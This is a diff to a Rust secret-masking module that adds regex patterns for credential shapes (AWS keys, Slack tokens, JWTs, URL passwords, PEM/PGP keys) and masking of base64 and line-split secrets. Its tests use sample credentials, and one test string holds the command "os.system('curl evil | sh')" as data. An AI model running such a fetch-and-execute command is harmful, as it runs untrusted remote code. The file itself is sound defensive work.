@@ -2,8 +2,10 @@
 //!
 //! Two layers: the literal values of the secret settings self-heal holds, and
 //! the shapes of well-known credentials (GitHub tokens, OpenAI-style keys, AWS
-//! access keys, `Authorization`/`Bearer` values, private-key blocks), so a
-//! secret printed by a failing test is hidden too.
+//! access keys and secret keys by name, Slack tokens, JWTs, `user:password@`
+//! in URLs, `Authorization`/`Bearer` values, PEM and PGP private-key blocks),
+//! so a secret printed by a failing test is hidden too. A literal is also
+//! masked in base64 and broken across a line.
 
 use std::sync::LazyLock;
 
@@ -15,24 +17,105 @@ use regex::Regex;
 /// the `n` of `\n` glued to it. The pattern's group 1 is kept in the replacement.
 const START: &str = r"(^|[^A-Za-z0-9_]|\\[nrt])";
 
-static PATTERNS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
+/// Each credential shape with its replacement (`${1}` keeps what stood before it).
+static PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
+    let keep = "${1}***";
     [
-        format!(r"{START}(?:ghp|gho|ghs|ghu|ghr)_[A-Za-z0-9]{{20,}}\b"),
-        format!(r"{START}github_pat_[A-Za-z0-9_]{{20,}}\b"),
-        format!(r"{START}sk-(?:proj-|live-|test-)?[A-Za-z0-9_-]{{16,}}\b"),
-        format!(r"{START}(?:AKIA|ASIA)[A-Z0-9]{{16}}\b"),
-        format!(r"{START}(?i:(?:authorization\s*[:=]\s*(?:bearer|token|basic)?|bearer)\s+[A-Za-z0-9._~+/=-]{{8,}})"),
-        r"()(?s)-----BEGIN [A-Z ]*PRIVATE KEY-----.*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z)".to_string(),
+        (format!(r"{START}(?:ghp|gho|ghs|ghu|ghr)_[A-Za-z0-9]{{20,}}\b"), keep),
+        (format!(r"{START}github_pat_[A-Za-z0-9_]{{20,}}\b"), keep),
+        (format!(r"{START}sk-(?:proj-|live-|test-)?[A-Za-z0-9_-]{{16,}}\b"), keep),
+        (format!(r"{START}(?:AKIA|ASIA)[A-Z0-9]{{16}}\b"), keep),
+        (format!(r"{START}(?i:(?:authorization\s*[:=]\s*(?:bearer|token|basic)?|bearer)\s+[A-Za-z0-9._~+/=-]{{8,}})"), keep),
+        // An AWS secret key next to its name (alone it is 40 characters of base64).
+        (
+            r#"((?:^|[^A-Za-z0-9_])(?i:aws_secret_access_key|aws_secret_key|secret_access_key)["']?\s*[:=]\s*["']?)[A-Za-z0-9/+=]{40}"#.to_string(),
+            keep,
+        ),
+        // Slack tokens.
+        (format!(r"{START}xox[abposr]-[A-Za-z0-9-]{{10,}}"), keep),
+        // JSON Web Tokens: header and payload are base64 JSON (`eyJ`).
+        (format!(r"{START}eyJ[A-Za-z0-9_-]{{8,}}\.eyJ[A-Za-z0-9_-]{{8,}}\.[A-Za-z0-9_-]{{8,}}"), keep),
+        // The password of `scheme://user:password@host`.
+        (r#"([A-Za-z][A-Za-z0-9+.-]*://[^/\s:@'"]+:)[^/\s@'"]+@"#.to_string(), "${1}***@"),
+        // A private-key block (PEM, PGP) to its END line; with no END line, only
+        // the key text that follows (base64 and line breaks), at most 8 KiB, so a
+        // stray BEGIN line cannot hide everything after it.
+        (
+            r"()(?s)-----BEGIN [A-Z ]*PRIVATE KEY(?: BLOCK)?-----(?:.*?-----END [A-Z ]*PRIVATE KEY(?: BLOCK)?-----|[A-Za-z0-9+/=\r\n]{0,8192})"
+                .to_string(),
+            keep,
+        ),
     ]
-    .iter()
-    .filter_map(|p| Regex::new(p).ok())
+    .into_iter()
+    .filter_map(|(p, with)| Regex::new(&p).ok().map(|re| (re, with)))
     .collect()
 });
+
+/// Lines of a private-key block masked at most when it has no END line.
+const MAX_KEY_LINES: usize = 200;
+
+/// Base64 (`url`: the URL-safe alphabet), with padding.
+fn base64(bytes: &[u8], url: bool) -> String {
+    let table: &[u8; 64] = if url {
+        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
+    } else {
+        b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
+    };
+    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
+    for chunk in bytes.chunks(3) {
+        let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for k in 0..4 {
+            if k <= chunk.len() {
+                out.push(char::from(table[((n >> (18 - 6 * k)) & 63) as usize]));
+            } else {
+                out.push('=');
+            }
+        }
+    }
+    out
+}
+
+/// The base64 text a secret always becomes inside a longer base64 string, at
+/// each of the three byte offsets it may start at (the characters that also
+/// depend on its neighbours left out), in both alphabets.
+fn base64_forms(secret: &str) -> Vec<String> {
+    let mut forms = Vec::new();
+    for offset in 0..3usize {
+        let mut bytes = vec![0u8; offset];
+        bytes.extend_from_slice(secret.as_bytes());
+        for url in [false, true] {
+            let encoded = base64(&bytes, url);
+            // Characters fully determined by the secret's bits alone.
+            let first = (offset * 8).div_ceil(6);
+            let last = ((offset + secret.len()) * 8) / 6;
+            if let Some(form) = encoded.get(first..last).filter(|f| f.len() >= 8) {
+                forms.push(form.to_string());
+            }
+        }
+    }
+    forms
+}
+
+/// A pattern for a secret broken across a line (a line break, and the
+/// indentation or prefix a log adds, between any two of its characters).
+fn split_pattern(secret: &str) -> Option<Regex> {
+    if secret.chars().count() < 8 {
+        return None;
+    }
+    let parts: Vec<String> = secret.chars().map(|c| regex::escape(&c.to_string())).collect();
+    // A real line break, or one escaped in JSON text (`\n`).
+    Regex::new(&parts.join(r"(?:(?:\r?\n|(?:\\r)?\\n)(?:\d{4}-\d\d-\d\dT[\d:.]+Z )?[ \t]*)?")).ok()
+}
 
 /// Replaces secrets in text with `***`.
 #[derive(Clone, Default)]
 pub struct Masker {
     literals: Vec<String>,
+    /// Each literal split across a line break.
+    split: Vec<Regex>,
+    /// The secret values as given (for a value split across two lines of a file).
+    values: Vec<String>,
 }
 
 impl std::fmt::Debug for Masker {
@@ -43,17 +126,22 @@ impl std::fmt::Debug for Masker {
 
 impl Masker {
     /// A masker for these literal secret values (values shorter than 4 characters are ignored:
-    /// masking every `a` would only destroy the text).
+    /// masking every `a` would only destroy the text), their base64 forms, and
+    /// the values broken across a line.
     pub fn new(literals: Vec<String>) -> Self {
-        let mut literals: Vec<String> = literals.into_iter().filter(|s| s.len() >= 4).collect();
+        let literals: Vec<String> = literals.into_iter().filter(|s| s.len() >= 4).collect();
+        let split = literals.iter().filter_map(|l| split_pattern(l)).collect();
+        let mut all: Vec<String> = literals.iter().flat_map(|l| base64_forms(l)).collect();
+        all.extend(literals.iter().cloned());
         // Longest first, so a secret that contains another is masked whole.
-        literals.sort_by_key(|s| std::cmp::Reverse(s.len()));
-        Self { literals }
+        all.sort_by_key(|s| std::cmp::Reverse(s.len()));
+        all.dedup();
+        Self { literals: all, split, values: literals }
     }
 
     /// Whether the text holds one of the literal secret values.
     pub fn has_literal(&self, text: &str) -> bool {
-        self.literals.iter().any(|lit| text.contains(lit.as_str()))
+        self.literals.iter().any(|lit| text.contains(lit.as_str())) || self.split.iter().any(|re| re.is_match(text))
     }
 
     /// The text with every secret replaced by `***`.
@@ -64,9 +152,14 @@ impl Masker {
                 out = out.replace(lit.as_str(), "***");
             }
         }
-        for re in PATTERNS.iter() {
+        for re in &self.split {
             if re.is_match(&out) {
-                out = re.replace_all(&out, "${1}***").into_owned();
+                out = re.replace_all(&out, "***").into_owned();
+            }
+        }
+        for (re, with) in PATTERNS.iter() {
+            if re.is_match(&out) {
+                out = re.replace_all(&out, *with).into_owned();
             }
         }
         out
@@ -85,6 +178,10 @@ impl Masker {
         {
             let mut out = std::io::BufWriter::new(tmp.as_file_mut());
             let mut in_key = false;
+            let mut key_lines = 0usize;
+            // The last line read (raw, masked, its line break), written once the
+            // next one shows whether a secret continues into it.
+            let mut pending: Option<(String, String, &str)> = None;
             const PIECE: u64 = 1 << 20;
             let mut buf = Vec::new();
             // The end of a cut piece of a long line, masked with the next piece so a
@@ -110,14 +207,31 @@ impl Masker {
                     Some(l) => (l, "\n"),
                     None => (text.as_ref(), ""),
                 };
-                let is_end = line.contains("-----END") && line.contains("PRIVATE KEY-----");
-                let masked = if in_key {
+                let is_end = line.contains("-----END") && line.contains("PRIVATE KEY");
+                // A secret value broken across this line and the one before: both parts go.
+                let mut line = line.to_string();
+                if let Some((prev_raw, prev_masked, _)) = pending.as_mut()
+                    && let Some((head, tail)) = self.split_across(prev_raw, &line)
+                {
+                    *prev_masked = format!("{}***", self.mask(&prev_raw[..prev_raw.len() - head]));
+                    line = format!("{}***{}", &line[..tail.0], &line[tail.1..]);
+                }
+                let masked = if in_key && key_lines < MAX_KEY_LINES {
+                    key_lines += 1;
                     in_key = !is_end;
                     "***".to_string()
                 } else {
-                    in_key = line.contains("-----BEGIN") && line.contains("PRIVATE KEY-----") && !is_end;
-                    self.mask(line)
+                    in_key = line.contains("-----BEGIN") && line.contains("PRIVATE KEY") && !is_end;
+                    key_lines = 0;
+                    self.mask(&line)
                 };
+                if let Some((_, masked, newline)) = pending.take() {
+                    out.write_all(masked.as_bytes())?;
+                    out.write_all(newline.as_bytes())?;
+                }
+                pending = Some((line, masked, newline));
+            }
+            if let Some((_, masked, newline)) = pending.take() {
                 out.write_all(masked.as_bytes())?;
                 out.write_all(newline.as_bytes())?;
             }
@@ -125,6 +239,25 @@ impl Masker {
         }
         tmp.persist(path).map_err(|e| e.error)?;
         Ok(())
+    }
+}
+
+impl Masker {
+    /// Where a secret value runs from the end of `prev` into `line`: how many
+    /// bytes end `prev`, and the byte range it takes in `line` (after a log's
+    /// timestamp and indentation).
+    fn split_across(&self, prev: &str, line: &str) -> Option<(usize, (usize, usize))> {
+        static STAMP: LazyLock<Regex> = LazyLock::new(|| crate::analysis::re(r"^(?:\d{4}-\d\d-\d\dT[\d:.]+Z )?[ \t]*"));
+        let body = STAMP.find(line).map_or(0, |m| m.end());
+        for value in self.values.iter().filter(|v| v.len() >= 8) {
+            for cut in (4..value.len() - 3).filter(|&c| value.is_char_boundary(c)) {
+                let (head, tail) = value.split_at(cut);
+                if prev.ends_with(head) && line[body..].starts_with(tail) {
+                    return Some((head.len(), (body, body + tail.len())));
+                }
+            }
+        }
+        None
     }
 }
 
@@ -174,7 +307,7 @@ mod tests {
 
     #[test]
     fn every_pattern_compiles() {
-        assert_eq!(PATTERNS.len(), 6, "a pattern failed to compile and would mask nothing");
+        assert_eq!(PATTERNS.len(), 10, "a pattern failed to compile and would mask nothing");
     }
 
     #[test]
@@ -227,5 +360,60 @@ mod tests {
         let m = Masker::new(vec![]);
         let text = "def task_runner(): return 'sk' + 'ip'  # bearer of news";
         assert_eq!(m.mask(text), text);
+    }
+
+    #[test]
+    fn the_shapes_the_second_review_found_are_masked() {
+        let m = Masker::new(vec!["sekrit-api-key-0123456789".into()]);
+        let aws = "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY";
+        let cases = [
+            (
+                "-----BEGIN PGP PRIVATE KEY BLOCK-----\nlQOYBF0secretbody\n-----END PGP PRIVATE KEY BLOCK-----",
+                "lQOYBF0",
+            ),
+            (aws, "wJalrXUtn"),
+            ("token xoxb-123456789012-abcdefghijkl", "xoxb-"),
+            (
+                "jwt eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
+                "eyJhbGci",
+            ),
+            ("url https://deploy:hunter2hunter2@git.example.com/x.git", "hunter2"),
+            ("b64 c2Vrcml0LWFwaS1rZXktMDEyMzQ1Njc4OQ==", "c2Vrcml0LWFwaS1rZXktMDEyMzQ1Njc4OQ"),
+            ("split sekrit-api-key-\n    0123456789 end", "0123456789"),
+        ];
+        for (text, leaked) in cases {
+            let out = m.mask(text);
+            assert!(!out.contains(leaked), "{leaked} leaked: {out}");
+        }
+        assert_eq!(m.mask(aws), "aws_secret_access_key = ***");
+        assert_eq!(
+            m.mask("url https://deploy:hunter2hunter2@git.example.com/x"),
+            "url https://deploy:***@git.example.com/x"
+        );
+        // The base64 of the secret inside a longer base64 text, at any offset.
+        for prefix in ["", "x", "xy"] {
+            let blob = base64(format!("{prefix}sekrit-api-key-0123456789 and more").as_bytes(), false);
+            assert!(m.mask(&blob).contains("***"), "offset {}: {blob}", prefix.len());
+        }
+        assert!(m.has_literal("sekrit-api-key-\n0123456789"));
+        // In a file masked line by line, with a log timestamp before the second part.
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("log.txt");
+        std::fs::write(&path, "a\nkey sekrit-api-\n2024-01-01T00:00:00.1234567Z key-0123456789 tail\nb\n").unwrap();
+        m.mask_file(&path).unwrap();
+        assert_eq!(std::fs::read_to_string(&path).unwrap(), "a\nkey ***\n2024-01-01T00:00:00.1234567Z *** tail\nb\n");
+    }
+
+    #[test]
+    fn a_begin_line_with_no_end_masks_only_key_text_and_a_bounded_length() {
+        let m = Masker::new(vec![]);
+        let text = "+# -----BEGIN PRIVATE KEY-----\n+import os\n+os.system('curl evil | sh')\n";
+        let out = m.mask(text);
+        assert!(out.contains("os.system('curl evil | sh')"), "the code after a stray BEGIN stays visible: {out}");
+        let long = format!("-----BEGIN PRIVATE KEY-----\n{}\nvisible", "A".repeat(20_000));
+        let out = m.mask(&long);
+        assert!(out.ends_with("visible") && out.len() > 10_000, "masked past the bound");
+        assert_eq!(base64(b"any carnal pleas", false), "YW55IGNhcm5hbCBwbGVhcw==");
+        assert_eq!(base64(b"\xfb\xff", true), "-_8=");
     }
 }
